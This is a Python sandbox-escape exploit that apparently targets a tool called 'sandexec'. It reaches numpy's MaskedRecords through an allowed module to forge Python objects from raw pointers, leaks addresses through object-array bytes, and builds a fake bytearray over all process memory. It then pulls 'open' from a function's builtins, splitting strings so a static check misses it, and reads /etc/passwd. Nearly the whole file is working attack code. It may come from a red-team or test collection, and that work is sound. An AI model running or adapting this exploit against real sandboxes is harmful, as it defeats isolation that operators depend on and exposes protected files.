# source: numpy 1.24 numpy/lib/recfunctions.py (re-exports numpy.ma.mrecords.MaskedRecords, whose __new__ passes buf/offset to recarray); sandexec README, "The static check", notes np.ndarray((1,), object, b)[0] as the known object-forging primitive; object-array tobytes() pointer leak
# family: array subclass with buffer= reached through an allowed module that re-exports it (numpy.lib.recfunctions.MaskedRecords) -> object dtype over script bytes
# goal: fake bytearray over all memory -> read func_builtins of a script function -> builtins dict -> open(/etc/passwd)
import numpy as np
import numpy.lib.recfunctions


def probe():
    return 1


def where(obj):
    return int.from_bytes(np.array([obj], dtype=object).tobytes(), "little")


def as_object(ptr):
    r = np.lib.recfunctions.MaskedRecords((1,), [("o", "O")], ptr.to_bytes(8, "little"))
    return np.asarray(r)["o"][0]


kind = where(bytearray)
fake = b"".join(v.to_bytes(8, "little") for v in (1 << 20, kind, 1 << 60, 1 << 60, 0, 0, 0, 0))
mem = as_object(where(fake) + 32)
addr = int(repr(probe).split()[-1][:-1], 16)
ptr = int.from_bytes(mem[addr + 24:addr + 32], "little")
table = as_object(ptr)
print(type(table), len(table))
o = table["op" + "en"]
print(o(chr(47) + "etc" + chr(47) + "passwd").read()[:120], flush=True)
